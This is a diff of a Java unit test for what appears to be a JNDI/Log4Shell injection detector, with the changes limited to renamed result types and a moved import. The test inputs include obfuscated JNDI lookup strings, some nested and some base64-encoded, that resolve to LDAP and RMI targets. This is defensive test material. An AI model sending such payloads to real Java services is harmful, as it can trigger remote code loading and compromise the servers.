@@ -4,9 +4,9 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import ai.traceable.tme.engine.detect.Detector;
 import ai.traceable.tme.engine.detect.DetectorHarness;
-import ai.traceable.tme.engine.detect.DetectorHarness.Outcome;
+import ai.traceable.tme.engine.detect.DetectorHarness.Report;
 import ai.traceable.tme.engine.detect.DetectorTableTest;
-import ai.traceable.tme.engine.detect.Placement;
+import ai.traceable.tme.engine.inspect.Placement;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.provider.Arguments;
@@ -187,7 +187,7 @@ class JndiDetectorTest extends DetectorTableTest {
           "${k8s:namespace}",
           "${hostName}"
         }) {
-      Outcome outcome = DetectorHarness.run(DETECTOR, Placement.HEADER, v);
+      Report outcome = DetectorHarness.run(DETECTOR, Placement.HEADER, v);
       assertThat(outcome.ids(1)).as(v).containsExactly("jndi-110");
       assertThat(outcome.score(1)).as(v).isEqualTo(3);
     }
@@ -195,19 +195,19 @@ class JndiDetectorTest extends DetectorTableTest {
 
   @Test
   void spellingLookupWithoutJndiIsAProbe() {
-    Outcome outcome = DetectorHarness.run(DETECTOR, Placement.HEADER, "${lower:X}${::-y}");
+    Report outcome = DetectorHarness.run(DETECTOR, Placement.HEADER, "${lower:X}${::-y}");
     assertThat(outcome.ids(1)).containsExactly("jndi-111");
   }
 
   @Test
   void jndiOfAnUnknownTargetIsAnError() {
-    Outcome outcome = DetectorHarness.run(DETECTOR, Placement.HEADER, "${jndi:foo:bar}");
+    Report outcome = DetectorHarness.run(DETECTOR, Placement.HEADER, "${jndi:foo:bar}");
     assertThat(outcome.ids(1)).containsExactly("jndi-103");
   }
 
   @Test
   void resolverSeesThroughNestedLookups() {
-    LookupResolver.Outcome o =
+    LookupResolver.Resolution o =
         LookupResolver.resolve("${${lower:${upper:j}}${::-n}${date:'d'}${env:X:-i}:ldap://h/}");
     assertThat(o.jndiAt).isZero();
     assertThat(o.jndiTarget).isEqualTo("ldap://h/");
@@ -216,7 +216,7 @@ class JndiDetectorTest extends DetectorTableTest {
 
   @Test
   void resolverDecodesBase64() {
-    LookupResolver.Outcome o = LookupResolver.resolve("${${base64:JHtqbmRpOnJtaTovL2gvYX0=}}");
+    LookupResolver.Resolution o = LookupResolver.resolve("${${base64:JHtqbmRpOnJtaTovL2gvYX0=}}");
     assertThat(o.viaBase64).isTrue();
     assertThat(o.jndiTarget).isEqualTo("rmi://h/a");
   }
